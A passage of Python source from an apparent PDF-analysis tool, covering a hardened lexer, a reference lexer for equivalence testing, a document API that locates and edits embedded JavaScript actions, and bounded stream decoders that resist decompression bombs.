)

#: A run of regular characters (name/keyword bodies).
_REGULAR_RUN_RE = re.compile(rb"[^\x00\t\n\x0c\r ()<>\[\]{}/%]*")
#: A run of number characters.
_NUMBER_RUN_RE = re.compile(rb"[0-9.+\-eE]*")
#: Longest valid numeric prefix (the tolerance truncation rule).
_NUMBER_PREFIX_RE = re.compile(rb"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
#: Bytes needing per-byte handling inside a literal string.
_STRING_SPECIAL_RE = re.compile(rb"[\\()]")
#: An entirely well-formed hex-string body (fast path).
_ALL_HEX_RE = re.compile(rb"[0-9a-fA-F]*\Z")
#: End-of-line bytes terminating a comment.
_COMMENT_END_RE = re.compile(rb"[\r\n]")


def is_regular(byte: int) -> bool:
    return _IS_REGULAR[byte] == 1


class Lexer:
    """A positioned tokenizer over a PDF byte buffer.

    ``warnings`` is an optional shared sink (the parser passes its
    ``ParsedPDF.warnings`` list) that receives tolerance notes for
    malformed-but-recoverable syntax; when omitted the lexer keeps a
    private list.  At most :data:`MAX_LEXER_WARNINGS` notes are
    recorded per lexer.
    """

    __slots__ = ("data", "pos", "warnings", "_n", "_warning_count")

    def __init__(
        self,
        data: bytes,
        pos: int = 0,
        warnings: Optional[List[str]] = None,
    ) -> None:
        self.data = data
        self.pos = pos
        self.warnings: List[str] = warnings if warnings is not None else []
        self._n = len(data)
        self._warning_count = 0

    # -- low-level helpers -------------------------------------------------

    def at_end(self) -> bool:
        return self.pos >= self._n

    def peek_byte(self) -> int:
        if self.pos >= self._n:
            return -1
        return self.data[self.pos]

    def _warn(self, message: str) -> None:
        # Parser lookahead (the N G R reference check) rewinds and
        # re-lexes; messages carry the byte offset, so an exact repeat
        # is the same defect seen twice, not a second defect.
        if self._warning_count < MAX_LEXER_WARNINGS:
            if message in self.warnings:
                return
            self.warnings.append(message)
        elif self._warning_count == MAX_LEXER_WARNINGS:
            self.warnings.append("further lexer tolerance warnings suppressed")
        self._warning_count += 1

    def skip_whitespace(self) -> None:
        data, n, ws = self.data, self._n, _IS_WS
        pos = self.pos
        while pos < n:
            byte = data[pos]
            if ws[byte]:
                pos += 1
            elif byte == 0x25:  # '%' — comment runs to end of line
                match = _COMMENT_END_RE.search(data, pos + 1)
                pos = match.start() if match is not None else n
            else:
                break
        self.pos = pos

    def skip_eol(self) -> None:
        """Consume a single end-of-line marker (CR, LF, or CRLF)."""
        data, n = self.data, self._n
        if self.pos < n and data[self.pos] == 0x0D:
            self.pos += 1
        if self.pos < n and data[self.pos] == 0x0A:
            self.pos += 1

    # -- token scanning ----------------------------------------------------

    def next_token(self) -> Token:
        data, n = self.data, self._n
        while True:
            self.skip_whitespace()
            start = self.pos
            if start >= n:
                return Token(_EOF, None, start)
            byte = data[start]
            if byte == 0x2F:  # '/'
                return self._scan_name()
            if byte == 0x28:  # '('
                return self._scan_literal_string()
            if byte == 0x3C:  # '<'
                if start + 1 < n and data[start + 1] == 0x3C:
                    self.pos = start + 2
                    return Token(_DICT_OPEN, None, start)
                return self._scan_hex_string()
            if byte == 0x3E:  # '>'
                if start + 1 < n and data[start + 1] == 0x3E:
                    self.pos = start + 2
                    return Token(_DICT_CLOSE, None, start)
                raise LexerError("unexpected '>'", start)
            if byte == 0x5B:  # '['
                self.pos = start + 1
                return Token(_ARRAY_OPEN, None, start)
            if byte == 0x5D:  # ']'
                self.pos = start + 1
                return Token(_ARRAY_CLOSE, None, start)
            if _IS_NUMCHAR[byte] and byte != 0x65 and byte != 0x45:  # not e/E
                token = self._scan_number()
                if token is None:
                    continue  # junk run skipped with a warning
                return token
            if _IS_REGULAR[byte]:
                return self._scan_keyword()
            raise LexerError(f"unexpected byte {byte:#x}", start)

    def peek_token(self) -> Token:
        saved = self.pos
        token = self.next_token()
        self.pos = saved
        return token

    def _scan_name(self) -> Token:
        start = self.pos
        match = _REGULAR_RUN_RE.match(self.data, start + 1)
        assert match is not None  # the pattern matches the empty run
        end = match.end()
        self.pos = end
        return Token(_NAME, self.data[start + 1 : end].decode("latin-1"), start)

    def _scan_number(self) -> Optional[Token]:
        """Scan a number run; tolerate junk by truncating or skipping.

        Returns ``None`` when the whole run was junk (no valid numeric
        prefix) — the caller moves on to the next token, so malformed
        spellings like a bare ``+`` cannot abort the enclosing object.
        """
        start = self.pos
        data = self.data
        match = _NUMBER_RUN_RE.match(data, start)
        assert match is not None
        end = match.end()
        self.pos = end
        text = data[start:end].decode("latin-1")
        try:
            return Token(_NUMBER, int(text), start)
        except ValueError:
            pass
        try:
            return Token(_NUMBER, float(text), start)
        except ValueError:
            pass
        # Tolerance: real readers accept the longest valid prefix and
        # re-lex the remainder (``2-3`` → 2, then -3).  A run with no
        # valid prefix at all (bare sign, lone dot) is skipped.
        prefix = _NUMBER_PREFIX_RE.match(data, start, end)
        if prefix is not None:
            self.pos = prefix.end()
            prefix_text = prefix.group().decode("latin-1")
            value: object = (
                float(prefix_text) if (b"." in prefix.group()) else int(prefix_text)
            )
            self._warn(
                f"malformed number {text!r} at byte {start} truncated to {value}"
            )
            return Token(_NUMBER, value, start)
        self._warn(f"skipped malformed number {text!r} at byte {start}")
        return None

    def _scan_keyword(self) -> Token:
        start = self.pos
        match = _REGULAR_RUN_RE.match(self.data, start)
        assert match is not None
        end = match.end()
        self.pos = end
        return Token(_KEYWORD, self.data[start:end].decode("latin-1"), start)

    def _scan_literal_string(self) -> Token:
        start = self.pos
        data, n = self.data, self._n
        pos = start + 1  # consume '('
        depth = 1
        out = bytearray()
        search = _STRING_SPECIAL_RE.search
        while pos < n:
            match = search(data, pos)
            if match is None:
                break
            at = match.start()
            if at > pos:
                out += data[pos:at]  # bulk-copy the unremarkable span
            byte = data[at]
            pos = at + 1
            if byte == 0x28:  # '('
                depth += 1
                out.append(byte)
                continue
            if byte == 0x29:  # ')'
                depth -= 1
                if depth == 0:
                    self.pos = pos
                    return Token(_STRING, bytes(out), start)
                out.append(byte)
                continue
            # Backslash escape.
            if pos >= n:
                break
            esc = data[pos]
            pos += 1
            if esc == 0x6E:  # n
                out.append(0x0A)
            elif esc == 0x72:  # r
                out.append(0x0D)
            elif esc == 0x74:  # t
                out.append(0x09)
            elif esc == 0x62:  # b
                out.append(0x08)
            elif esc == 0x66:  # f
                out.append(0x0C)
            elif esc in (0x28, 0x29, 0x5C):  # ( ) \
                out.append(esc)
            elif 0x30 <= esc <= 0x37:  # octal digits
                value = esc - 0x30
                for _ in range(2):
                    if pos < n and 0x30 <= data[pos] <= 0x37:
                        value = (value << 3) | (data[pos] - 0x30)
                        pos += 1
                    else:
                        break
                out.append(value & 0xFF)
            elif esc in (0x0D, 0x0A):
                # Line continuation: swallow the EOL.
                if esc == 0x0D and pos < n and data[pos] == 0x0A:
                    pos += 1
            else:
                out.append(esc)
        raise LexerError("unterminated literal string", start)

    def _scan_hex_string(self) -> Token:
        start = self.pos
        data = self.data
        end = data.find(b">", start + 1)
        if end < 0:
            raise LexerError("unterminated hex string", start)
        body = data[start + 1 : end]
        self.pos = end + 1
        if _ALL_HEX_RE.match(body) is not None and len(body) % 2 == 0:
            # Fast path: clean, even-length body decodes in one C call.
            return Token(_HEX_STRING, bytes.fromhex(body.decode("ascii")), start)
        out = bytearray()
        hexval, ws = _HEX_VAL, _IS_WS
        hi = -1
        bad = 0
        for byte in body:
            value = hexval[byte]
            if value >= 0:
                if hi < 0:
                    hi = value
                else:
                    out.append((hi << 4) | value)
                    hi = -1
            elif not ws[byte]:
                # Tolerance: real readers skip non-hex bytes instead of
                # dropping the whole enclosing object.
                bad += 1
        if hi >= 0:  # odd digit count: final digit padded with 0
            out.append(hi << 4)
        if bad:
            self._warn(
                f"ignored {bad} non-hex byte(s) in hex string at byte {start}"
            )
        return Token(_HEX_STRING, bytes(out), start)

    # -- convenience -------------------------------------------------------

    def expect_keyword(self, word: str) -> Token:
        token = self.next_token()
        if token.type is not _KEYWORD or token.value != word:
            raise LexerError(f"expected keyword {word!r}, got {token.value!r}", token.pos)
        return token

    def try_keyword(self, word: str) -> bool:
        saved = self.pos
        token = self.next_token()
        if token.type is _KEYWORD and token.value == word:
            return True
        self.pos = saved
        return False

    def read_integer_pair(self) -> Optional[Tuple[int, int]]:
        """Read ``<int> <int>`` (used for xref subsection headers)."""
        saved = self.pos
        first = self.next_token()
        second = self.next_token()
        if (
            first.type is _NUMBER
            and second.type is _NUMBER
            and isinstance(first.value, int)
            and isinstance(second.value, int)
        ):
            return first.value, second.value
        self.pos = saved
        return None
