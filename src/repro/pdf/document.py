"""High-level document API on top of the parser/writer.

:class:`PDFDocument` gives the front-end what it needs: navigation of
the catalog, pages, ``/OpenAction``, ``/AA`` and the ``/Names``
JavaScript tree; access to JavaScript action payloads wherever they are
stored (literal string, hex string, or stream — with any filter
cascade); and mutation + re-serialisation, which is how document
instrumentation is applied.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Iterator, List, Optional, Tuple, Union

from repro import limits as limits_mod
from repro.pdf.objects import (
    IndirectObject,
    ObjectStore,
    PDFArray,
    PDFDict,
    PDFName,
    PDFNull,
    PDFObject,
    PDFRef,
    PDFStream,
    PDFString,
)
from repro.pdf.parser import HeaderInfo, ParsedPDF, parse_pdf
from repro.pdf.writer import write_pdf

#: Dictionary keys whose presence marks a JavaScript action.
JS_KEYS = ("JS",)
JS_ACTION_NAME = "JavaScript"

#: Trigger kinds the reader fires automatically or on user action.
TRIGGER_OPEN_ACTION = "OpenAction"
TRIGGER_AA = "AA"
TRIGGER_NAMES = "Names"


@dataclass
class JavascriptAction:
    """One JavaScript action found in a document.

    ``holder_ref`` is the indirect object whose dictionary carries the
    ``/JS`` entry (None when the action dict is inline, e.g. a direct
    ``/OpenAction`` dictionary).  ``code_ref`` is set when ``/JS``
    points at a stream object rather than holding a string.
    """

    dictionary: PDFDict
    holder_ref: Optional[PDFRef]
    code_ref: Optional[PDFRef]
    trigger: str
    name: Optional[str] = None

    def key(self) -> Tuple[Optional[int], str, Optional[str]]:
        return (self.holder_ref.num if self.holder_ref else None, self.trigger, self.name)


class PDFDocument:
    """A mutable in-memory PDF document."""

    def __init__(
        self,
        store: Optional[ObjectStore] = None,
        trailer: Optional[PDFDict] = None,
        header: Optional[HeaderInfo] = None,
        version: Tuple[int, int] = (1, 4),
        header_prefix: Optional[bytes] = None,
        header_version_text: Optional[str] = None,
        warnings: Optional[List[str]] = None,
        used_recovery_scan: bool = False,
    ) -> None:
        self.store = store if store is not None else ObjectStore()
        self.trailer = trailer if trailer is not None else PDFDict()
        self.header = header if header is not None else HeaderInfo(offset=0, version=version)
        self.version = version
        self.header_prefix = header_prefix
        self.header_version_text = header_version_text
        self.warnings = list(warnings or [])
        #: True when any object in :attr:`store` was only reachable via
        #: the parser's recovery scan — parse evidence that the document
        #: hides content from xref-faithful readers.
        self.used_recovery_scan = used_recovery_scan

    # -- constructors --------------------------------------------------

    @classmethod
    def from_bytes(cls, data: bytes) -> "PDFDocument":
        parsed = parse_pdf(data)
        return cls.from_parsed(parsed)

    @classmethod
    def from_parsed(cls, parsed: ParsedPDF) -> "PDFDocument":
        version = parsed.header.version or (1, 4)
        return cls(
            store=parsed.store,
            trailer=parsed.trailer,
            header=parsed.header,
            version=version,
            warnings=parsed.warnings,
            used_recovery_scan=parsed.used_recovery_scan,
        )

    def to_bytes(self) -> bytes:
        return write_pdf(
            self.store,
            self.trailer,
            version=self.version,
            header_prefix=self.header_prefix,
            header_version_text=self.header_version_text,
        )

    # -- resolution helpers -----------------------------------------------

    def resolve(self, value: PDFObject) -> PDFObject:
        return self.store.deep_resolve(value)

    def resolve_dict(self, value: PDFObject) -> PDFDict:
        resolved = self.resolve(value)
        return resolved if isinstance(resolved, PDFDict) else PDFDict()

    @property
    def catalog(self) -> PDFDict:
        return self.resolve_dict(self.trailer.get("Root", PDFNull))

    @property
    def info(self) -> PDFDict:
        return self.resolve_dict(self.trailer.get("Info", PDFNull))

    # -- pages --------------------------------------------------------------

    def pages(self) -> List[PDFDict]:
        """Flatten the page tree (cycle-safe, depth-bounded).

        The walk is iterative: a hostile tree of deeply nested *inline*
        ``/Kids`` dictionaries (which the cycle set cannot catch — no
        refs to remember) would otherwise blow Python's recursion limit.
        Branches deeper than the nesting budget are dropped with a
        warning rather than crashing the scan.
        """
        budget = limits_mod.active()
        max_depth = (
            budget.limits.max_nesting_depth if budget is not None
            else limits_mod.DEFAULT_LIMITS.max_nesting_depth
        )

        result: List[PDFDict] = []
        root = self.catalog.get("Pages")
        if root is None:
            return result
        seen: set[PDFRef] = set()
        truncated = False
        stack: List[Tuple[PDFObject, int]] = [(root, 0)]
        while stack:
            node_ref, depth = stack.pop()
            if max_depth is not None and depth > max_depth:
                truncated = True
                continue
            if isinstance(node_ref, PDFRef):
                if node_ref in seen:
                    continue
                seen.add(node_ref)
            node = self.resolve_dict(node_ref)
            node_type = str(node.get("Type", ""))
            if node_type == "Page":
                result.append(node)
                continue
            kids = node.get("Kids", PDFArray())
            if isinstance(kids, PDFArray):
                # Reversed push keeps the original DFS pre-order.
                for kid in reversed(kids):
                    stack.append((kid, depth + 1))
        if truncated:
            message = f"page tree deeper than {max_depth} levels; truncated"
            if message not in self.warnings:
                self.warnings.append(message)
        return result

    @property
    def page_count(self) -> int:
        return len(self.pages())

    # -- object mutation ------------------------------------------------------

    def add_object(self, value: PDFObject, num: Optional[int] = None) -> PDFRef:
        obj = IndirectObject(num if num is not None else self.store.next_num(), 0, value)
        return self.store.add(obj)

    def set_object(self, ref: PDFRef, value: PDFObject) -> None:
        self.store.add(IndirectObject(ref.num, ref.gen, value))

    # -- JavaScript discovery ----------------------------------------------------

    def iter_javascript_actions(self) -> Iterator[JavascriptAction]:
        """Yield every JavaScript action reachable from a trigger.

        Covers ``/OpenAction`` (catalog), ``/AA`` additional-action
        dictionaries (catalog and pages), the document-level ``/Names``
        → ``/JavaScript`` name tree, and ``/Next`` chains hanging off
        any of those.
        """
        yielded: set[Tuple[object, ...]] = set()

        def emit(
            action: PDFObject, trigger: str, name: Optional[str] = None
        ) -> Iterator[JavascriptAction]:
            holder_ref = action if isinstance(action, PDFRef) else None
            action_dict = self.resolve_dict(action)
            if not action_dict:
                return
            ident = (id(action_dict), holder_ref, trigger, name)
            key = (holder_ref, trigger, name) if holder_ref else ident
            if key in yielded:
                return
            yielded.add(key)
            if "JS" in action_dict:
                js_value = action_dict.get("JS")
                code_ref = js_value if isinstance(js_value, PDFRef) else None
                yield JavascriptAction(
                    dictionary=action_dict,
                    holder_ref=holder_ref,
                    code_ref=code_ref,
                    trigger=trigger,
                    name=name,
                )
            nxt = action_dict.get("Next")
            if nxt is not None:
                targets = nxt if isinstance(nxt, PDFArray) else [nxt]
                for target in targets:
                    yield from emit(target, trigger, name)

        catalog = self.catalog
        open_action = catalog.get("OpenAction")
        if open_action is not None:
            yield from emit(open_action, TRIGGER_OPEN_ACTION)

        def emit_aa(owner: PDFDict, trigger: str) -> Iterator[JavascriptAction]:
            aa = self.resolve_dict(owner.get("AA", PDFNull))
            for event_name, action in aa.items():
                yield from emit(action, f"{trigger}:{event_name}")

        yield from emit_aa(catalog, TRIGGER_AA)
        for index, page in enumerate(self.pages()):
            yield from emit_aa(page, f"{TRIGGER_AA}:Page{index}")

        names_root = self.resolve_dict(catalog.get("Names", PDFNull))
        js_tree = names_root.get("JavaScript")
        if js_tree is not None:
            yield from self._iter_name_tree_actions(js_tree, emit)

    def _iter_name_tree_actions(
        self,
        tree: PDFObject,
        emit: Callable[..., Iterator[JavascriptAction]],
    ) -> Iterator[JavascriptAction]:
        node = self.resolve_dict(tree)
        names = node.get("Names")
        if isinstance(names, PDFArray):
            for i in range(0, len(names) - 1, 2):
                label = names[i]
                action = names[i + 1]
                label_text = (
                    label.to_text() if isinstance(label, PDFString) else str(label)
                )
                yield from emit(action, TRIGGER_NAMES, label_text)
        for kid in node.get("Kids", PDFArray()):
            yield from self._iter_name_tree_actions(kid, emit)

    # -- JavaScript payload access ---------------------------------------------

    def get_javascript_code(self, action: Union[JavascriptAction, PDFDict]) -> str:
        """Return the source text of an action's ``/JS`` entry.

        An undecodable code stream (corrupt filter data) yields ``""`` —
        the same as a reader that cannot load the script.
        """
        action_dict = action.dictionary if isinstance(action, JavascriptAction) else action
        value = action_dict.get("JS")
        resolved = self.resolve(value)
        if isinstance(resolved, PDFStream):
            try:
                return resolved.decoded_data().decode("latin-1", errors="replace")
            except limits_mod.ResourceLimitExceeded:
                raise
            except Exception:  # noqa: BLE001 - corrupt stream data
                return ""
        if isinstance(resolved, PDFString):
            return resolved.to_text()
        if isinstance(resolved, str):
            return str(resolved)
        return ""

    def set_javascript_code(
        self,
        action: Union[JavascriptAction, PDFDict],
        code: str,
        prefer_stream: Optional[bool] = None,
    ) -> None:
        """Replace the ``/JS`` payload in place, preserving storage form.

        When the original payload was a stream, the replacement is
        written back through the same filter cascade; strings stay
        strings.  ``prefer_stream`` forces one representation.
        """
        action_dict = action.dictionary if isinstance(action, JavascriptAction) else action
        value = action_dict.get("JS")
        resolved = self.resolve(value)
        want_stream = (
            prefer_stream
            if prefer_stream is not None
            else isinstance(resolved, PDFStream)
        )
        if want_stream:
            if isinstance(resolved, PDFStream) and isinstance(value, PDFRef):
                filters = [str(f) for f in resolved.filters]
                resolved.set_decoded_data(code.encode("latin-1", "replace"), filters)
                return
            stream = PDFStream()
            stream.set_decoded_data(code.encode("latin-1", "replace"), ["FlateDecode"])
            ref = self.add_object(stream)
            action_dict[PDFName("JS")] = ref
            return
        action_dict[PDFName("JS")] = PDFString(code.encode("latin-1", "replace"))

    # -- JavaScript insertion -------------------------------------------------------

    def add_javascript(
        self,
        code: str,
        trigger: str = TRIGGER_OPEN_ACTION,
        name: Optional[str] = None,
        as_stream: bool = False,
        filters: Optional[List[str]] = None,
    ) -> PDFRef:
        """Attach a new JavaScript action to the document.

        ``trigger`` is ``"OpenAction"``, ``"Names"``, or an ``/AA``
        event name such as ``"AA:WillClose"``.
        """
        action = PDFDict(
            {PDFName("S"): PDFName(JS_ACTION_NAME)}
        )
        if as_stream:
            stream = PDFStream()
            stream.set_decoded_data(
                code.encode("latin-1", "replace"), filters or ["FlateDecode"]
            )
            action[PDFName("JS")] = self.add_object(stream)
        else:
            action[PDFName("JS")] = PDFString(code.encode("latin-1", "replace"))
        action_ref = self.add_object(action)

        catalog = self.catalog
        if trigger == TRIGGER_OPEN_ACTION:
            catalog[PDFName("OpenAction")] = action_ref
        elif trigger == TRIGGER_NAMES:
            self._add_to_js_name_tree(name or f"js{action_ref.num}", action_ref)
        elif trigger.startswith("AA"):
            event = trigger.split(":", 1)[1] if ":" in trigger else "WillClose"
            aa = catalog.get("AA")
            aa_dict = self.resolve_dict(aa) if aa is not None else PDFDict()
            aa_dict[PDFName(event)] = action_ref
            catalog[PDFName("AA")] = aa_dict
        else:
            raise ValueError(f"unknown trigger {trigger!r}")
        return action_ref

    def _add_to_js_name_tree(self, label: str, action_ref: PDFRef) -> None:
        catalog = self.catalog
        names_entry = catalog.get("Names")
        names_dict = self.resolve_dict(names_entry) if names_entry is not None else None
        if names_dict is None or not isinstance(names_dict, PDFDict) or names_entry is None:
            names_dict = PDFDict()
            catalog[PDFName("Names")] = self.add_object(names_dict)
        js_entry = names_dict.get("JavaScript")
        js_dict = self.resolve_dict(js_entry) if js_entry is not None else None
        if js_entry is None or not js_dict:
            js_dict = PDFDict({PDFName("Names"): PDFArray()})
            names_dict[PDFName("JavaScript")] = self.add_object(js_dict)
        names_array = js_dict.get("Names")
        if not isinstance(names_array, PDFArray):
            names_array = PDFArray()
            js_dict[PDFName("Names")] = names_array
        names_array.append(PDFString(label))
        names_array.append(action_ref)

    # -- misc -----------------------------------------------------------------

    def object_count(self) -> int:
        return len(self.store)

    def has_javascript(self) -> bool:
        return any(True for _ in self.iter_javascript_actions())
