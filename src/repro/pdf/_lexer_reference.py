"""Frozen pre-optimisation PDF tokenizer (differential reference).

This is the allocation-heavy :class:`Lexer` exactly as it shipped
before the front-end rework: a ``@dataclass`` token carrying a ``raw``
byte slice, per-byte ``in bytes`` membership tests and ``chr()`` calls.
It exists so the fast lexer in :mod:`repro.pdf.lexer` can be proven
equivalent — the hypothesis property in
``tests/property/test_pdf_properties.py`` and the tokenizer benchmark
in ``benchmarks/bench_pdf_frontend.py`` compare the two token streams
token for token on valid corpora.

Do not use this from production code paths; it is intentionally slow.
The only divergences from the fast lexer are the documented tolerance
fixes (malformed numbers and bad hex digits raise here instead of
warning), which is why the equivalence property restricts itself to
*valid* token text.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.pdf.lexer import DELIMITERS, WHITESPACE, LexerError, TokenType


@dataclass
class ReferenceToken:
    type: TokenType
    value: object
    pos: int
    raw: bytes = b""


def _is_regular(byte: int) -> bool:
    return byte not in WHITESPACE and byte not in DELIMITERS


class ReferenceLexer:
    """The original positioned tokenizer over a PDF byte buffer."""

    def __init__(
        self,
        data: bytes,
        pos: int = 0,
        warnings: Optional[List[str]] = None,
    ) -> None:
        self.data = data
        self.pos = pos
        # Accepted for drop-in compatibility with the fast lexer's
        # constructor; the reference lexer raises instead of warning,
        # so the sink is never written to.
        self.warnings = warnings if warnings is not None else []

    # -- low-level helpers -------------------------------------------------

    def at_end(self) -> bool:
        return self.pos >= len(self.data)

    def peek_byte(self) -> int:
        if self.at_end():
            return -1
        return self.data[self.pos]

    def skip_whitespace(self) -> None:
        data, n = self.data, len(self.data)
        while self.pos < n:
            byte = data[self.pos]
            if byte in WHITESPACE:
                self.pos += 1
            elif byte == ord("%"):
                # Comment runs to end of line.
                while self.pos < n and data[self.pos] not in b"\r\n":
                    self.pos += 1
            else:
                return

    def skip_eol(self) -> None:
        """Consume a single end-of-line marker (CR, LF, or CRLF)."""
        if self.pos < len(self.data) and self.data[self.pos] == 0x0D:
            self.pos += 1
        if self.pos < len(self.data) and self.data[self.pos] == 0x0A:
            self.pos += 1

    # -- token scanning ----------------------------------------------------

    def next_token(self) -> ReferenceToken:
        self.skip_whitespace()
        start = self.pos
        if self.at_end():
            return ReferenceToken(TokenType.EOF, None, start)
        byte = self.data[self.pos]
        if byte == ord("/"):
            return self._scan_name()
        if byte == ord("("):
            return self._scan_literal_string()
        if byte == ord("<"):
            if self.pos + 1 < len(self.data) and self.data[self.pos + 1] == ord("<"):
                self.pos += 2
                return ReferenceToken(TokenType.DICT_OPEN, None, start)
            return self._scan_hex_string()
        if byte == ord(">"):
            if self.pos + 1 < len(self.data) and self.data[self.pos + 1] == ord(">"):
                self.pos += 2
                return ReferenceToken(TokenType.DICT_CLOSE, None, start)
            raise LexerError("unexpected '>'", self.pos)
        if byte == ord("["):
            self.pos += 1
            return ReferenceToken(TokenType.ARRAY_OPEN, None, start)
        if byte == ord("]"):
            self.pos += 1
            return ReferenceToken(TokenType.ARRAY_CLOSE, None, start)
        if byte in b"+-.0123456789":
            return self._scan_number()
        if _is_regular(byte):
            return self._scan_keyword()
        raise LexerError(f"unexpected byte {byte:#x}", self.pos)

    def peek_token(self) -> ReferenceToken:
        saved = self.pos
        token = self.next_token()
        self.pos = saved
        return token

    def _scan_name(self) -> ReferenceToken:
        start = self.pos
        self.pos += 1  # consume '/'
        data, n = self.data, len(self.data)
        begin = self.pos
        while self.pos < n and _is_regular(data[self.pos]):
            self.pos += 1
        raw = data[begin : self.pos].decode("latin-1")
        return ReferenceToken(TokenType.NAME, raw, start, raw=data[start : self.pos])

    def _scan_number(self) -> ReferenceToken:
        start = self.pos
        data, n = self.data, len(self.data)
        self.pos += 1
        while self.pos < n and data[self.pos] in b"0123456789.+-eE":
            self.pos += 1
        text = data[start : self.pos].decode("latin-1")
        try:
            value: object = int(text)
        except ValueError:
            try:
                value = float(text)
            except ValueError as exc:
                raise LexerError(f"bad number {text!r}", start) from exc
        return ReferenceToken(TokenType.NUMBER, value, start, raw=data[start : self.pos])

    def _scan_keyword(self) -> ReferenceToken:
        start = self.pos
        data, n = self.data, len(self.data)
        while self.pos < n and _is_regular(data[self.pos]):
            self.pos += 1
        word = data[start : self.pos].decode("latin-1")
        return ReferenceToken(TokenType.KEYWORD, word, start, raw=data[start : self.pos])

    def _scan_literal_string(self) -> ReferenceToken:
        start = self.pos
        self.pos += 1  # consume '('
        data, n = self.data, len(self.data)
        out = bytearray()
        depth = 1
        while self.pos < n:
            byte = data[self.pos]
            if byte == ord("\\"):
                self.pos += 1
                if self.pos >= n:
                    break
                esc = data[self.pos]
                self.pos += 1
                if esc == ord("n"):
                    out.append(0x0A)
                elif esc == ord("r"):
                    out.append(0x0D)
                elif esc == ord("t"):
                    out.append(0x09)
                elif esc == ord("b"):
                    out.append(0x08)
                elif esc == ord("f"):
                    out.append(0x0C)
                elif esc in b"()\\":
                    out.append(esc)
                elif esc in b"01234567":
                    digits = [esc]
                    while (
                        len(digits) < 3
                        and self.pos < n
                        and data[self.pos] in b"01234567"
                    ):
                        digits.append(data[self.pos])
                        self.pos += 1
                    out.append(int(bytes(digits), 8) & 0xFF)
                elif esc in b"\r\n":
                    # Line continuation: swallow the EOL.
                    if esc == 0x0D and self.pos < n and data[self.pos] == 0x0A:
                        self.pos += 1
                else:
                    out.append(esc)
                continue
            if byte == ord("("):
                depth += 1
                out.append(byte)
            elif byte == ord(")"):
                depth -= 1
                if depth == 0:
                    self.pos += 1
                    return ReferenceToken(
                        TokenType.STRING, bytes(out), start, raw=data[start : self.pos]
                    )
                out.append(byte)
            else:
                out.append(byte)
            self.pos += 1
        raise LexerError("unterminated literal string", start)

    def _scan_hex_string(self) -> ReferenceToken:
        start = self.pos
        self.pos += 1  # consume '<'
        data, n = self.data, len(self.data)
        digits = bytearray()
        while self.pos < n:
            byte = data[self.pos]
            if byte == ord(">"):
                self.pos += 1
                if len(digits) % 2:
                    digits.append(ord("0"))
                try:
                    value = bytes.fromhex(digits.decode("ascii"))
                except ValueError as exc:
                    raise LexerError("bad hex string", start) from exc
                return ReferenceToken(
                    TokenType.HEX_STRING, value, start, raw=data[start : self.pos]
                )
            if byte in WHITESPACE:
                self.pos += 1
                continue
            if chr(byte) not in "0123456789abcdefABCDEF":
                raise LexerError(f"bad hex digit {chr(byte)!r}", self.pos)
            digits.append(byte)
            self.pos += 1
        raise LexerError("unterminated hex string", start)

    # -- convenience -------------------------------------------------------

    def expect_keyword(self, word: str) -> ReferenceToken:
        token = self.next_token()
        if token.type is not TokenType.KEYWORD or token.value != word:
            raise LexerError(f"expected keyword {word!r}, got {token.value!r}", token.pos)
        return token

    def try_keyword(self, word: str) -> bool:
        saved = self.pos
        token = self.next_token()
        if token.type is TokenType.KEYWORD and token.value == word:
            return True
        self.pos = saved
        return False

    def read_integer_pair(self) -> Optional[Tuple[int, int]]:
        """Read ``<int> <int>`` (used for xref subsection headers)."""
        saved = self.pos
        first = self.next_token()
        second = self.next_token()
        if (
            first.type is TokenType.NUMBER
            and second.type is TokenType.NUMBER
            and isinstance(first.value, int)
            and isinstance(second.value, int)
        ):
            return first.value, second.value
        self.pos = saved
        return None
