"""PDF stream filters.

Implements the decode *and* encode directions for the five filters the
corpus uses — FlateDecode, ASCIIHexDecode, ASCII85Decode,
RunLengthDecode and LZWDecode — plus cascade handling.  Malicious
documents in the paper stack multiple filters ("levels of encoding",
static feature F5).

Decoding treats its input as hostile: every expanding decoder accepts
a ``max_output`` bound and stops *before* materialising more than that
(a decompression bomb must not OOM the scanner), and
:func:`decode_stream` enforces the active :class:`~repro.limits.ScanBudget`
— cascade depth, per-stream and per-document output bytes, and the
scan deadline.

Budget-check placement guarantee: every expanding decoder re-checks
``max_output`` *after* each chunk it appends, never only before — so
the bytes a decoder returns never exceed the budget, not even by one
final chunk (see ``docs/HARDENING.md``).

Each decoder has a private ``_*_raw`` variant returning the working
``bytearray`` it already builds internally; :func:`decode_stream`
chains those so a multi-filter cascade materialises exactly one
``bytes`` object (the final result) instead of one per layer.
"""

from __future__ import annotations

import binascii
import zlib
from typing import Callable, Dict, List, Optional, Union

from repro import limits as limits_mod
from repro.limits import ResourceLimitExceeded
from repro.pdf.objects import PDFName, PDFStream

#: Bytes-like input accepted by the raw decoders (a cascade feeds each
#: layer the previous layer's working buffer without copying it).
ByteSource = Union[bytes, bytearray]


class FilterError(ValueError):
    """Raised when stream data cannot be decoded by the declared filter."""


def _check_output(size: int, max_output: Optional[int], filter_name: str) -> None:
    if max_output is not None and size > max_output:
        raise ResourceLimitExceeded(
            "stream-bytes", max_output,
            f"{filter_name} output exceeded the per-stream budget",
        )


# ---------------------------------------------------------------------------
# Flate

#: Inflate in bounded steps so a bomb is caught long before it is
#: materialised (zlib routinely expands 1:1000+ on crafted input).
_FLATE_CHUNK = 1 << 20


def _flate_decode_raw(data: ByteSource, max_output: Optional[int] = None) -> bytearray:
    if not data:
        raise FilterError("bad Flate data: empty input")
    out = bytearray()
    decomp = zlib.decompressobj()
    pending: ByteSource = data
    try:
        while pending:
            out += decomp.decompress(pending, _FLATE_CHUNK)
            _check_output(len(out), max_output, "FlateDecode")
            if decomp.eof:
                break
            # Feed back exactly the bytes zlib withheld to honour
            # max_length — never a re-slice of the raw input.
            pending = decomp.unconsumed_tail
        # flush() drains zlib's window; without it the tail of a
        # truncated stream is silently dropped.
        out += decomp.flush()
        _check_output(len(out), max_output, "FlateDecode")
    except zlib.error as exc:
        # Tolerate truncated/corrupt streams the way real readers do:
        # keep whatever inflated before the error.
        if out:
            return out
        raise FilterError(f"bad Flate data: {exc}") from exc
    return out


def flate_decode(data: ByteSource, max_output: Optional[int] = None) -> bytes:
    return bytes(_flate_decode_raw(data, max_output))


def flate_encode(data: bytes) -> bytes:
    return zlib.compress(data)


# ---------------------------------------------------------------------------
# ASCIIHex

